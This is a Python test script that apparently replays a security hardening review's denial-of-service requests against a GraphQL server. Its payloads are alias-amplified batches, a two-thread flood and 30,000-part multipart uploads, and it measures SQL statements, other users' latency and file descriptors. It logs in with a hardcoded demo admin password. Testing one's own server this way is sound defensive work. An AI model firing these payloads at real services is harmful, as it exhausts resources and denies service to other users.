#!/usr/bin/env python3
"""Replays the requests of the hardening review against a running server
and prints what they cost it. Standard library only.

Usage: attack.py BASE_URL METRICS_URL SERVER_PID

1. One 0.7 MB request: a batch of 10 operations, each 2,500 aliases of
   `localeCoverage`, as the admin: its answer, wall time and the SQL
   statements it ran.
2. Other users' p50 latency alone, and while that request is repeated.
3. One anonymous and one signed-in multipart request of 30,000 parts: the
   answer, wall time and the server's open descriptors before and after.
"""

import http.client
import json
import os
import statistics
import sys
import threading
import time
import urllib.parse
import urllib.request


def post(base, body, token=None, headers=None):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    request = urllib.request.Request(base + "/graphql", data=data, method="POST")
    request.add_header("Content-Type", "application/json")
    for k, v in (headers or {}).items():
        request.add_header(k, v)
    if token:
        request.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"null")


def statements(metrics_url):
    with urllib.request.urlopen(metrics_url) as response:
        for line in response.read().decode().splitlines():
            if line.startswith("sammen_db_statements_total "):
                return int(float(line.split()[1]))
    return 0


def fds(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


def p50(base, seconds=3.0):
    latencies = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        started = time.perf_counter()
        post(base, {"query": "{ organisations(first: 20) { totalCount edges { node { name } } } }"})
        latencies.append((time.perf_counter() - started) * 1000)
    return statistics.median(latencies), len(latencies)


def multipart(base, token, parts):
    boundary = "sammenattack"
    chunks = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n'.encode(),
        json.dumps({
            "query": "mutation($d: ID!, $f: Upload!) { uploadDocumentVersion(documentId: $d, file: $f) { id } }",
            "variables": {"d": "00000000-0000-0000-0000-000000000000", "f": None},
        }).encode(),
        f'\r\n--{boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n'.encode(),
        json.dumps({"0": ["variables.f"]}).encode(),
        b"\r\n",
    ]
    for i in range(parts):
        chunks.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{i}"; filename="a.txt"\r\n\r\nx\r\n'.encode()
        )
    chunks.append(f"--{boundary}--\r\n".encode())
    body = b"".join(chunks)
    url = urllib.parse.urlparse(base)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    if token:
        headers["Authorization"] = "Bearer " + token
    started = time.perf_counter()
    try:
        connection.request("POST", "/graphql", body=body, headers=headers)
        response = connection.getresponse()
        answer = (response.status, json.loads(response.read()))
    except (BrokenPipeError, ConnectionResetError) as error:
        answer = ("connection closed", str(error))
    return answer, (time.perf_counter() - started) * 1000, len(body)


def main():
    base, metrics_url, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    token = post(base, {"query": 'mutation { login(email: "admin@example.org", password: "sammen-demo") { token } }'})[1][
        "data"]["login"]["token"]

    def aliased(operations, aliases):
        fields = " ".join(f"a{i}: localeCoverage {{ locale }}" for i in range(aliases))
        return json.dumps([{"query": "{ %s }" % fields} for _ in range(operations)]).encode()

    batch = aliased(10, 2500)
    for label, body in (("10 x 2,500", batch), ("4 x 500 (under the token limit)", aliased(4, 500))):
        before = statements(metrics_url)
        started = time.perf_counter()
        status, answer = post(base, body, token)
        elapsed = (time.perf_counter() - started) * 1000
        ran = statements(metrics_url) - before
        answers = answer if isinstance(answer, list) else [answer]
        codes = sorted({e["extensions"]["code"] for r in answers for e in r.get("errors", [])})
        print(f"1. {len(body) / 1e6:.2f} MB, {label} aliases of localeCoverage: HTTP {status}, codes {codes}, "
              f"{elapsed:.1f} ms, {ran} SQL statements (token check included)")

    alone, n = p50(base)
    stop = threading.Event()

    def flood():
        while not stop.is_set():
            post(base, batch, token)

    threads = [threading.Thread(target=flood) for _ in range(2)]
    for t in threads:
        t.start()
    loaded, m = p50(base)
    stop.set()
    for t in threads:
        t.join()
    print(f"2. other users' p50: {alone:.1f} ms alone ({n} requests), {loaded:.1f} ms while two clients repeat it ({m} requests)")

    for who, bearer in (("anonymous", None), ("signed in", token)):
        open_before = fds(pid)
        answer, ms, size = multipart(base, bearer, 30000)
        time.sleep(0.2)
        open_after = fds(pid)
        if isinstance(answer[1], dict):
            error = answer[1]["errors"][0]
            shown = f'HTTP {answer[0]} {error["extensions"]["code"]}: {error["message"]}'
        else:
            shown = answer
        print(f"3. {who}, 30,000 parts ({size / 1e6:.1f} MB): {shown}; {ms:.1f} ms; "
              f"server descriptors {open_before} before, {open_after} after")


if __name__ == "__main__":
    main()
